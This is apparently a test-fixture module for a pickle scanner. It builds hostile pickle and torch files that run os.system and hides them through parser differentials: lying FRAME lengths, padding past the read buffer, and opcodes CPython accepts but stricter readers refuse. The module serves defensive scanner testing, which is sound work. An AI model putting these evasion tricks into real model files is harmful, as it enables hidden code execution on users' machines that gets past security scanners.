"""Hostile files: the pickle interpreter: where CPython's unpickler and a naive reading differ.

Each builder writes a file whose payload runs under the loader named in its Case (proven by
tests/test_scan.py in a subprocess); CASES is appended to ``hostile.CASES``.

Two families:

- **file vs bytes**: ``pickle.load(file)`` and ``pickle.loads(bytes)`` read a FRAME differently
  (from a file the frame becomes the read buffer, and a read that needs more than the buffer
  still holds drops the rest). A FRAME whose length disagrees with the opcodes inside makes
  the two loaders run different opcodes. From an ``io.BytesIO`` (torch's zip path) any frame
  does; from a real file only frames too large for the 128 KiB prefetch (``read()``, not
  ``peek()``), so those payloads carry a large padding.
- **CPython accepts, a stricter reader refuses**: the payload after the refused opcode runs.
"""

from __future__ import annotations

import struct
from collections.abc import Callable
from pathlib import Path

from helpers import rewrite_zip
from hostile import (
    MARK,
    POP,
    REDUCE,
    STOP,
    TUPLE,
    TUPLE1,
    Case,
    _torch_zip,
    _write,
    binbytes,
    frame,
    glob0,
    os_system0,
    proto,
    sglobal,
    shell,
    str0,
    ustr,
)

_PAD = 200_000  # a FRAME at least this long is read with read(), past the 128 KiB peek() of a real file


def _system4(work: Path) -> bytes:
    """``os.system(touch marker)`` in protocol-4 opcodes, then STOP."""
    return sglobal("os", "system") + ustr(shell(work)) + TUPLE1 + REDUCE + STOP


def _pad(size: int) -> bytes:
    return binbytes(b"\0" * size) + POP if size else b""


def _frame_skip(work: Path, *, pad: int, straddle: bytes = b"X" + struct.pack("<I", 4) + b"zz") -> bytes:
    """Benign under pickle.loads; os.system under pickle.load(file).

    The frame ends two bytes into a read that reaches past it (by default the data of a
    4-byte BINUNICODE). loads reads those two bytes and the next two ("ab"), then a
    SHORT_BINBYTES that swallows the payload as data. From a file, the read drops the two
    bytes left in the frame, takes "ab" and the SHORT_BINBYTES header instead, and runs the
    payload."""
    payload = _system4(work)
    window = _pad(pad) + straddle
    return proto(4) + frame(len(window)) + window + b"ab" + b"C" + bytes([len(payload)]) + payload + STOP


def b_frame_file_binunicode(work: Path) -> Path:
    return _write(work, "frame_file.pkl", _frame_skip(work, pad=_PAD))


def b_frame_file_binint(work: Path) -> Path:
    # the crossing read is BININT's own 4-byte argument (two bytes in the frame, two after)
    return _write(work, "frame_binint.pkl", _frame_skip(work, pad=_PAD, straddle=b"J\x07\x00"))


def b_frame_file_readline(work: Path) -> Path:
    """The frame ends inside a GLOBAL's module line: loads reads ``pos`` + ``os``, a file
    drops the ``p`` left in the frame and reads ``os``: ``os.system``."""
    window = _pad(_PAD) + b"cp"
    call = MARK + str0(shell(work)) + TUPLE + REDUCE + STOP
    return _write(work, "frame_readline.pkl", proto(2) + frame(len(window)) + window + b"os\nsystem\n" + call)


def b_frame_torch_zip(work: Path) -> Path:
    """torch.load reads data.pkl from an io.BytesIO: a small lying FRAME is enough."""
    src = _torch_zip(work)
    dst = work / "frame_zip.pt"
    return rewrite_zip(src, dst, {"/data.pkl": lambda _: _frame_skip(work, pad=0)})


def b_frame_past_stop(work: Path) -> Path:
    """The first pickle's FRAME runs past its STOP. loads-style readers go on right after
    STOP, where a BINBYTES swallows the payload; pickle.load(f) leaves the file at the frame's
    end, so the next pickle.load(f) runs the payload."""
    payload = proto(4) + _system4(work)
    window = _pad(_PAD) + b"N" + STOP + proto(4) + b"B" + struct.pack("<I", len(payload))
    return _write(work, "frame_past_stop.pkl", proto(4) + frame(len(window)) + window + payload + STOP)


def _after(prefix: bytes, name: str) -> Callable[[Path], Path]:
    """``prefix`` (which CPython accepts) + POP + os.system; a reader that refuses ``prefix``
    never sees the call."""
    def build(work: Path) -> Path:
        return _write(work, f"{name}.pkl", prefix + POP + os_system0(work) + STOP)
    build.__name__ = f"b_{name.replace('-', '_')}"
    return build


_ACCEPTED = {
    "int-hex": b"I0x1f\n",               # strtol with base 0
    "int-octal": b"I010\n",              # strtol: octal 8
    "int-base0-python": b"I0o7\n",       # strtol stops, PyLong_FromString(base 0) goes on
    "int-underscore": b"I1_000\n",
    "int-nul-suffix": b"I5\x00junk\n",   # the C string ends at the NUL
    "long-hex": b"L0x1FL\n",
    "empty-appends-on-int": b"K\x01" + MARK + b"e",
    "empty-setitems-on-str": str0("a") + MARK + b"u",
    "empty-additems-on-none": b"N" + MARK + b"\x90",
    "ordereddict-of-str": glob0("collections", "OrderedDict") + MARK + str0("") + TUPLE + REDUCE,
    "set-of-str": glob0("__builtin__", "set") + MARK + str0("abc") + TUPLE + REDUCE,
    "bytearray-appends": glob0("__builtin__", "bytearray") + b")" + REDUCE + MARK + b"K\x01K\x02e",
    "setitem-on-list": MARK + b"K\x01lK\x00K\x05s",
}

CASES: tuple[Case, ...] = (
    Case("frame-file-binunicode", b_frame_file_binunicode, "pickle-file"),
    Case("frame-file-binint", b_frame_file_binint, "pickle-file"),
    Case("frame-file-readline", b_frame_file_readline, "pickle-file"),
    Case("frame-torch-zip-bytesio", b_frame_torch_zip, "torch"),
    Case("frame-past-stop", b_frame_past_stop, "pickle-all"),
    *(Case(f"accepted-{name}", _after(prefix, name), "pickle") for name, prefix in _ACCEPTED.items()),
)
